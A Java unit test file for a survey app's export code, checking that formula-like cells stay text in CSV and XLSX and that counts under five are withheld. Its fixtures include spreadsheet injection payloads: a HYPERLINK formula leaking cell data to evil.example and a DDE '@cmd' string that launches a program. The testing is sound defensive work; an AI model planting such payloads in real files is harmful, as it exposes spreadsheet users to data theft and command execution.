package app.tandem.survey.ui;

import static org.assertj.core.api.Assertions.assertThat;

import app.tandem.survey.Audience;
import app.tandem.survey.ModerationState;
import app.tandem.survey.QuestionType;
import app.tandem.survey.SurveyViews.OptionView;
import app.tandem.survey.SurveyViews.QuestionTally;
import app.tandem.survey.SurveyViews.QuestionView;
import app.tandem.survey.SurveyViews.SectionView;
import app.tandem.survey.SurveyViews.SurveyDefinition;
import app.tandem.survey.SurveyViews.TextAnswer;
import app.tandem.survey.SurveyViews.WaveResults;
import app.tandem.survey.SurveyViews.WaveView;
import app.tandem.survey.WaveStatus;
import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * Quality bar BI-2 for survey exports: whatever officers or the public typed (survey title,
 * question, option, written answer) that a spreadsheet would run as a formula stays text in CSV and
 * XLSX. And the small-numbers rule: exports are for sharing, so counts below 5 read "fewer than 5".
 */
class ResultsExportTest {

    static final String PAYLOAD = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    static WaveResults results() {
        QuestionView choice = new QuestionView(1, 0, 1, QuestionType.SINGLE_CHOICE, "+SUM(1,2) which service?", null, null,
                true, true, null, List.of(), List.of(new OptionView("a", PAYLOAD, null), new OptionView("b", "@cmd|' /C calc'!A0",
                        null), new OptionView("c", "Social care", null)), null, null);
        QuestionView text = new QuestionView(2, 0, 1, QuestionType.LONG_TEXT, "-2+3 anything else?", null, null, false, false,
                null, List.of(), List.of(), null, null);
        QuestionView few = new QuestionView(3, 0, 1, QuestionType.YES_NO_NOT_SURE, "Asked of few", null, null, false, false,
                null, List.of(), List.of(new OptionView("yes", "Yes", null), new OptionView("no", "No", null),
                        new OptionView("not_sure", "Not sure", null)), null, null);
        SurveyDefinition def = new SurveyDefinition(9, 0, 1, 1, "=1+1 survey", Audience.PARENTS_CARERS, null, 5, false,
                List.of(new SectionView(1, 0, "All", null, List.of(choice, text, few))));
        WaveView wave = new WaveView(7, 0, 9, "\tAutumn", null, LocalDate.of(2026, 10, 1), LocalDate.of(2026, 11, 30),
                WaveStatus.OPEN, 24, false);
        Map<String, Long> counts = new LinkedHashMap<>();
        counts.put("a", 17L);
        counts.put("b", 3L);
        counts.put("c", 0L);
        counts.put(QuestionType.PREFER_NOT_TO_SAY, 2L);
        return new WaveResults(wave, def, List.of(new QuestionTally(7, 1, 20, counts, null),
                new QuestionTally(7, 2, 6, Map.of(), null),
                new QuestionTally(7, 3, 3, Map.of("yes", 2L, "no", 1L, "not_sure", 0L), null)));
    }

    static Map<Long, List<TextAnswer>> texts() {
        return Map.of(2L, List.of(new TextAnswer(1, 2, PAYLOAD, ModerationState.VISIBLE),
                new TextAnswer(2, 2, "Answer emails faster", ModerationState.VISIBLE)));
    }

    @Test
    void csv_cells_that_start_like_a_formula_stay_text_and_small_counts_are_withheld() throws Exception {
        byte[] csv = ResultsExport.csv(results(), texts());
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new InputStreamReader(new ByteArrayInputStream(csv),
                StandardCharsets.UTF_8)).getRecords();

        assertThat(records.getFirst().toList()).isEqualTo(ResultsExport.HEADER);
        List<String> cells = new ArrayList<>();
        records.stream().skip(1).forEach(r -> cells.addAll(r.toList()));
        assertThat(cells).isNotEmpty().allSatisfy(c -> assertThat(c).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t"));
        assertThat(cells).contains("'" + PAYLOAD, "'=1+1 survey", "'+SUM(1,2) which service?", "'@cmd|' /C calc'!A0",
                "'\tAutumn", "'-2+3 anything else?", "Answer emails faster");
        CSVRecord payloadOption = records.stream().filter(r -> r.get(4).equals("'" + PAYLOAD) && r.get(7).isEmpty())
                .findFirst().orElseThrow();
        assertThat(payloadOption.get(5)).isEqualTo("17");
        assertThat(payloadOption.get(6)).isEqualTo("85");
        CSVRecord three = records.stream().filter(r -> r.get(4).equals("'@cmd|' /C calc'!A0")).findFirst().orElseThrow();
        assertThat(three.get(5)).isEqualTo("fewer than 5");
        assertThat(three.get(6)).isEmpty();
        assertThat(records.stream().filter(r -> r.get(3).equals("Asked of few")).toList()).singleElement()
                .satisfies(r -> assertThat(r.get(5)).isEqualTo("fewer than 5"));
        assertThat(records.stream().filter(r -> r.get(4).equals("Prefer not to say")).toList()).singleElement()
                .satisfies(r -> assertThat(r.get(5)).isEqualTo("fewer than 5"));
    }

    @Test
    void xlsx_cells_are_text_never_formulas_and_small_counts_are_withheld() throws Exception {
        byte[] xlsx = ResultsExport.xlsx(results(), texts());
        List<String> texts = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : book.getSheetAt(0)) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isIn(CellType.STRING, CellType.NUMERIC, CellType.BLANK);
                    if (cell.getCellType() == CellType.STRING) {
                        texts.add(cell.getStringCellValue());
                    }
                }
            }
        }
        assertThat(texts).contains("'" + PAYLOAD, "'=1+1 survey", "'@cmd|' /C calc'!A0", "fewer than 5")
                .noneMatch(t -> t.startsWith("=") || t.startsWith("+") || t.startsWith("@") || t.startsWith("-"));
    }

    @Test
    void officers_see_exact_small_numbers_on_screen_and_shared_figures_hide_them() {
        WaveResults r = results();
        QuestionView q = r.definition().questions().getFirst();

        Figures.QuestionFigures officer = Figures.of(q, r.tally(1), false);
        Figures.QuestionFigures shared = Figures.of(q, r.tally(1), true);

        assertThat(officer.lines().get(1).shownCount()).isEqualTo(3);
        assertThat(officer.lines().get(1).percent()).isEqualByComparingTo(BigDecimal.valueOf(15));
        assertThat(officer.preferNotToSay()).isEqualTo(2);
        assertThat(shared.lines().get(1).withheld()).isTrue();
        assertThat(shared.lines().get(1).percent()).isNull();
        assertThat(shared.lines().get(0).shownCount()).isEqualTo(17);
        assertThat(shared.lines().get(2).shownCount()).as("nobody is not a small number").isZero();
        assertThat(shared.preferNotToSay()).isNull();
        assertThat(Figures.of(r.definition().questions().get(2), r.tally(3), true).withheld()).isTrue();
        assertThat(Figures.of(r.definition().questions().get(2), r.tally(3), false).withheld()).isFalse();
    }
}
